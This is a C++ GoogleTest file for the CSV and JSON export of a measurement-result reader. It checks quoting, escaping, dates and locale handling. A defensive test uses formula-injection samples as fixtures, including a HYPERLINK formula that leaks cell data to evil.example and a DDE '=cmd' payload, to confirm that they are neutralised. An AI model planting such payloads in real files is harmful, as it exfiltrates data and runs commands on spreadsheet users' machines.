#include "files/ResultExport.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <clocale>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <limits>
#include <string>
#include <vector>

#include "files/AtomicFile.h"
#include "files/tests/TempFolder.h"

namespace kyvo {
namespace {

TDateData Date(int y, int mo, int d, int h, int mi, int s) {
    TDateData t{};
    t.Year = std::uint8_t(y - 2000);
    t.Month = std::uint8_t(mo);
    t.MonthDay = std::uint8_t(d);
    t.Hour = std::uint8_t(h);
    t.Minutes = std::uint8_t(mi);
    t.Seconds = std::uint8_t(s);
    return t;
}

TMeasureSet SampleSet() {
    TMeasureSet m;
    m.TestID = "1 2 3 4 1807 0042 33752069";
    m.TestName = "CRP";
    m.LotNr = "L-17";
    m.Distr_Manu = "Maker";
    m.DateTime = Date(2017, 3, 15, 14, 5, 9);
    m.Voltage = "2950";
    m.Temperature = "23.50";
    m.ResultList.push_back({"Valid", "CRP", "5.6", "mg/l", ""});
    m.ResultList.push_back({"Valid", "Band", "<0.5", "", "neg"});
    return m;
}

// The process locale of the window is the user's; a German one writes
// "12,5" through printf-style formatting.
class GermanNumericLocale {
  public:
    GermanNumericLocale() {
        const char* old = std::setlocale(LC_ALL, nullptr);
        saved_ = old ? old : "C";
        active_ = std::setlocale(LC_ALL, "de_DE.UTF-8") != nullptr;
    }
    ~GermanNumericLocale() { std::setlocale(LC_ALL, saved_.c_str()); }
    bool active() const { return active_; }

  private:
    std::string saved_;
    bool active_ = false;
};

TEST(ResultExport, resultValueNumberReadsOnlyPlainDecimalsWithPoint) {
    struct Case {
        const char* text;
        bool isNumber;
        double value;
    } cases[] = {
        {"5.6", true, 5.6}, {"12", true, 12},   {"-3.25", true, -3.25},     {"0", true, 0},
        {"<0.5", false, 0}, {">100", false, 0}, {"Not a number", false, 0}, {"", false, 0},
        {"1,5", false, 0},  {".", false, 0},    {"5.", false, 0},           {"-", false, 0},
        {"1e5", false, 0},  {" 5", false, 0},   {"nan", false, 0},
    };
    for (const Case& c : cases) {
        const auto v = ResultValueNumber(c.text);
        EXPECT_EQ(c.isNumber, v.has_value()) << c.text;
        if (v && c.isNumber) {
            EXPECT_DOUBLE_EQ(c.value, *v) << c.text;
        }
    }
}

TEST(ResultExport, isoDateTimeOnlyForCalendarDates) {
    EXPECT_EQ("2017-03-15T14:05:09", IsoDateTime(Date(2017, 3, 15, 14, 5, 9)));
    EXPECT_EQ("2024-02-29T00:00:00", IsoDateTime(Date(2024, 2, 29, 0, 0, 0)));
    EXPECT_EQ("", IsoDateTime(Date(2023, 2, 29, 0, 0, 0)));
    EXPECT_EQ("", IsoDateTime(Date(2017, 0, 15, 14, 5, 9)));
    EXPECT_EQ("", IsoDateTime(Date(2017, 3, 15, 24, 0, 0)));
}

TEST(ResultExport, csvHasBomHeaderCrLfAndQuotesAsRfc4180) {
    TMeasureSet m = SampleSet();
    m.UserComment = "said \"retest\", later";
    m.TestName = "two\nlines";
    const std::string csv = ExportCsv({&m}, ECsvForm::ResultRows);
    ASSERT_EQ(0u, csv.rfind("\xEF\xBB\xBFtest_id,test_name,", 0));
    EXPECT_NE(std::string::npos,
              csv.find(",\"two\nlines\",L-17,Maker,2017-03-15T14:05:09,03/15/2017 14:05:09,"
                       "\"said \"\"retest\"\", later\",2950,23.5,1,CRP,5.6,5.6,mg/l,,Valid\r\n"));
    EXPECT_NE(std::string::npos, csv.find(",2,Band,,<0.5,,neg,Valid\r\n"));
    // Header plus two rows, every row ended by CR LF.
    std::size_t rows = 0;
    for (std::size_t p = csv.find("\r\n"); p != std::string::npos; p = csv.find("\r\n", p + 2))
        ++rows;
    EXPECT_EQ(3u, rows);
}

TEST(ResultExport, aMeasurementWithoutResultRowsKeepsOneCsvRow) {
    TMeasureSet m = SampleSet();
    m.ResultList.clear();
    const std::string csv = ExportCsv({&m}, ECsvForm::ResultRows);
    EXPECT_NE(std::string::npos, csv.find("\r\n1 2 3 4 1807 0042 33752069,CRP,"));
    EXPECT_NE(std::string::npos, csv.find(",2950,23.5,,,,,,,\r\n"));
}

TEST(ResultExport, lineFormHasOneRowPerLineResultWithNotANumberLeftEmpty) {
    TMeasureSet m = SampleSet();
    m.MeasureResult.LineCount = 2;
    m.MeasureResult.Results().Line[0] = {12.5f, 1, 2, 3, 4, 100.25f, 7, 120, 5};
    m.MeasureResult.Results().Line[1] = {
        std::numeric_limits<float>::quiet_NaN(), 1, 2, 3, 4, 5, 8, -3, 4};
    const std::string csv = ExportCsv({&m}, ECsvForm::LineRows);
    EXPECT_NE(std::string::npos, csv.find(",line_no,mean_value,"));
    EXPECT_NE(std::string::npos, csv.find(",1,12.5,1,2,3,4,100.25,7,120,5\r\n"));
    EXPECT_NE(std::string::npos, csv.find(",2,,1,2,3,4,5,8,-3,4\r\n"));
}

TEST(ResultExport, numbersKeepThePointUnderAGermanProcessLocale) {
    GermanNumericLocale german;
    if (!german.active()) GTEST_SKIP() << "de_DE.UTF-8 is not installed";
    TMeasureSet m = SampleSet();
    m.MeasureResult.LineCount = 1;
    m.MeasureResult.Results().Line[0].MeanValue = 1234.5f;
    const std::string csv = ExportCsv({&m}, ECsvForm::LineRows);
    const std::string json = ExportJson({&m}, {"Kyvo Data Reader", "V1.5.062"});
    EXPECT_NE(std::string::npos, csv.find(",1234.5,"));
    EXPECT_NE(std::string::npos, json.find("\"meanValue\": 1234.5,"));
    EXPECT_NE(std::string::npos, json.find("\"temperature\": 23.5,"));
    EXPECT_EQ(std::string::npos, json.find("1234,5"));
    EXPECT_EQ(std::string::npos, json.find("1.234"));
}

TEST(ResultExport, jsonHoldsNullForWhatIsNoNumberAndEscapesTexts) {
    TMeasureSet m = SampleSet();
    m.Voltage = "";
    m.UserComment = "tab\there \"quoted\" back\\slash \x01";
    m.DateTime = Date(2017, 0, 15, 14, 5, 9);
    m.MeasureResult.LineCount = 1;
    m.MeasureResult.Results().Line[0].MeanValue = std::numeric_limits<float>::infinity();
    m.OrigImage.assign(kMaxImageValues, -1);
    m.OrigImage[0] = 100;
    m.OrigImage[1] = 300;
    m.OrigImage[3] = 7;  // after the first negative entry: not part of the image
    m.ImgMin = "100";
    m.ImgMax = "300";
    const std::string json = ExportJson({&m}, {"Kyvo Data Reader", "V1.5.062"});
    EXPECT_NE(std::string::npos, json.find("\"voltage\": null,"));
    EXPECT_NE(std::string::npos, json.find("\"dateTime\": null,"));
    EXPECT_NE(std::string::npos, json.find("\"value\": null, \"valueText\": \"<0.5\""));
    EXPECT_NE(std::string::npos, json.find("\"value\": 5.6, \"valueText\": \"5.6\""));
    EXPECT_NE(std::string::npos, json.find("\"meanValue\": null,"));
    EXPECT_NE(std::string::npos,
              json.find("\"userComment\": \"tab\\there \\\"quoted\\\" back\\\\slash \\u0001\""));
    EXPECT_NE(std::string::npos,
              json.find("\"image\": {\"min\": 100, \"max\": 300, \"values\": [100, 300]}"));
}

TEST(ResultExport, anEmptySelectionGivesAnEmptyButWellFormedDocument) {
    EXPECT_EQ(
        "{\n  \"format\": \"kyvo-measurements\",\n  \"formatVersion\": 1,\n  \"program\": "
        "{\"name\": \"K\", \"version\": \"V\"},\n  \"measurements\": []\n}\n",
        ExportJson({}, {"K", "V"}));
}

// The CSV as Python's csv module (the reader spreadsheets' import follows)
// splits it: rows of cells, the byte-order mark dropped. Empty when python3
// is missing.
std::vector<std::vector<std::string>> ParsedByPython(const std::string& csv) {
    TempFolder dir;
    const std::string file = dir.file("export.csv");
    const std::string script = dir.file("split.py");
    if (!writeFileAtomically(file, csv) ||
        !writeFileAtomically(
            script,
            "import csv, sys\n"
            "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
            "    for row in csv.reader(f):\n"
            "        print(' '.join(c.encode('utf-8').hex() or '-' for c in row))\n"))
        return {};
    FILE* p = ::popen(("python3 " + script + " " + file + " 2>/dev/null").c_str(), "r");
    if (!p) return {};
    std::string text;
    char buf[4096];
    for (std::size_t n; (n = std::fread(buf, 1, sizeof buf, p)) > 0;) text.append(buf, n);
    if (::pclose(p) != 0) return {};
    std::vector<std::vector<std::string>> rows;
    std::size_t at = 0;
    for (std::size_t nl; (nl = text.find('\n', at)) != std::string::npos; at = nl + 1) {
        std::vector<std::string> row;
        std::size_t c = at;
        while (c < nl) {
            std::size_t end = text.find(' ', c);
            if (end == std::string::npos || end > nl) end = nl;
            std::string cell;
            for (std::size_t i = c; i + 1 < end && text[c] != '-'; i += 2)
                cell += static_cast<char>(std::stoi(text.substr(i, 2), nullptr, 16));
            row.push_back(cell);
            c = end + 1;
        }
        rows.push_back(row);
    }
    return rows;
}

// A spreadsheet runs a cell that starts with =, +, -, @ (or a tab or carriage
// return before one) as a formula: every text cell of such a start gets a
// leading apostrophe, a plain number stays a number, and JSON keeps the
// texts exactly.
TEST(ResultExport, csvTextCellsThatASpreadsheetWouldRunAsFormulasStartWithAnApostrophe) {
    TMeasureSet m = SampleSet();
    m.TestID = "=1+2 0042";
    m.TestName = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    m.LotNr = "+1+1";
    m.Distr_Manu = "-2+3";
    m.UserComment = "@SUM(A1:A9)";
    m.Voltage = "-5";
    m.ResultList = {{"Valid", "\t=1+1", "-3.5", "\r=cmd|' /C calc'!A0", "=1"},
                    {"Invalid", "-", "-", "mg/l", "@x"},
                    {"Valid", "CRP", "+4", "-", "normal"}};
    const std::string csv = ExportCsv({&m}, ECsvForm::ResultRows);
    const auto rows = ParsedByPython(csv);
    if (rows.empty()) GTEST_SKIP() << "python3 is not installed";
    ASSERT_EQ(rows.size(), 4u);
    const std::vector<std::string>& head = rows[0];
    const auto col = [&head](const std::string& name) {
        return static_cast<std::size_t>(std::find(head.begin(), head.end(), name) - head.begin());
    };
    ASSERT_EQ(head.size(), 16u);
    struct Expect {
        std::size_t row;
        std::string column, cell;
    } expected[] = {
        {1, "test_id", "'=1+2 0042"},
        {1, "test_name", "'" + m.TestName},
        {1, "lot_number", "'+1+1"},
        {1, "distributor_manufacturer", "'-2+3"},
        {1, "user_comment", "'@SUM(A1:A9)"},
        {1, "voltage", "-5"},
        {1, "result_name", "'\t=1+1"},
        {1, "value", "-3.5"},
        {1, "value_text", "-3.5"},
        {1, "unit", "'\r=cmd|' /C calc'!A0"},
        {1, "class", "'=1"},
        {2, "result_name", "'-"},
        {2, "value", ""},
        {2, "value_text", "'-"},
        {2, "class", "'@x"},
        {3, "value_text", "'+4"},
        {3, "unit", "'-"},
        {3, "class", "normal"},
    };
    for (const Expect& e : expected) {
        ASSERT_LT(col(e.column), head.size()) << e.column;
        EXPECT_EQ(rows[e.row][col(e.column)], e.cell) << e.column << " of row " << e.row;
    }
    // No cell of the file is a formula; only a plain number starts with "-".
    for (std::size_t r = 1; r < rows.size(); ++r) {
        for (const std::string& cell : rows[r]) {
            if (!cell.empty() && std::string_view("=+-@\t\r").find(cell[0]) != std::string::npos) {
                EXPECT_TRUE(ResultValueNumber(cell)) << "row " << r << ": " << cell;
            }
        }
    }

    const std::string json = ExportJson({&m}, {"K", "V"});
    EXPECT_NE(
        json.find("\"testName\": \"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\")\""),
        std::string::npos);
    EXPECT_NE(json.find("\"name\": \"\\t=1+1\", \"value\": -3.5, \"valueText\": \"-3.5\", "
                        "\"unit\": \"\\r=cmd|' /C calc'!A0\", \"class\": \"=1\""),
              std::string::npos);
    EXPECT_EQ(json.find("'="), std::string::npos);
}

}  // namespace
}  // namespace kyvo
